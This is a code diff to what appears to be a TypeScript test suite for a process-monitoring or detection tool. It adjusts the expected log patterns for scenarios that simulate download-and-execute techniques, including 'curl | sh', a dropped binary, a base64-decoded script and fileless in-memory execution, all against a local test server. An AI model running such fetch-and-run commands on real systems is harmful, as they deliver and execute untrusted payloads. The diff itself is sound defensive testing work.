@@ -9,7 +9,7 @@ export const downloads: readonly Scenario[] = [
       await stage.shell(`curl -s ${stage.served("i.sh")} | sh; : operator`);
     },
     chain: [/: operator/, /curl -s .*\/i\.sh$/, /^\d+ sh$/, /curl -s .*\/curl-sh$/],
-    beside: [/tcp .* -> 127\.0\.0\.1:8000$/],
+    beside: [/tcp .* -> 127\.0\.0\.1:8000: .*was connected/],
   },
   {
     name: "a dropped binary, run by another",
@@ -19,7 +19,7 @@ export const downloads: readonly Scenario[] = [
       await stage.shell(`./k -s ${stage.url}; : runner`);
     },
     chain: [/: dropper/, /curl -s .*\/served -o k/, /\.\/k -s/],
-    beside: [/tcp .* -> 127\.0\.0\.1:8000$/],
+    beside: [/tcp .* -> 127\.0\.0\.1:8000: .*was connected/],
   },
   {
     name: "a decoded download",
@@ -28,7 +28,7 @@ export const downloads: readonly Scenario[] = [
       await stage.shell(`curl -s ${stage.served("served")} | base64 -d > x; sh x; : operator`);
     },
     chain: [/: operator/, /base64 -d/, /^\d+ sh x$/, /curl -s/],
-    beside: [/curl -s .*\/served/],
+    beside: [/curl -s .*\/served: /],
   },
   {
     name: "execution from memory",
@@ -37,5 +37,6 @@ export const downloads: readonly Scenario[] = [
       await stage.shell(`${stage.actors} fileless 8000 /file${stage.path("served")} ${stage.url}; : loader`);
     },
     chain: [/: loader/, /k -s/],
+    beside: [/tcp .* -> 127\.0\.0\.1:8000: .*was connected .* received/],
   },
 ];
